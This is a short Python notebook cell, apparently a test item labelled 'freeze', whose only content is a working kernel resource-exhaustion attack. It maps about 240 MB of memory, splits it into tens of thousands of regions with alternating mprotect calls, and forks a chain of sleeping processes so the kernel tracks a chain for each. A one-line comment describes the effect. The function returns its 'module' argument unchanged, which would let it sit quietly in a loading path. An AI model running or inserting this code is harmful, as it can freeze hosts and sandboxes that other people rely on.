# %% [markdown]
# Cuts a mapping into tens of thousands, and forks them again and again: the kernel keeps a chain for each.
# %% question="freeze"
import ctypes
import os
import time


def freeze(module):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    pages = 60_000
    place = libc.mmap(None, ctypes.c_size_t(4096 * pages), 3, 0x22, -1, ctypes.c_long(0))
    ctypes.memset(place, 1, 4096 * pages)
    for page in range(0, pages, 2):
        libc.mprotect(ctypes.c_void_p(place + 4096 * page), 4096, 1)
    for _ in range(20):
        try:
            if os.fork():
                break
        except OSError:
            break
    time.sleep(60)
    return module
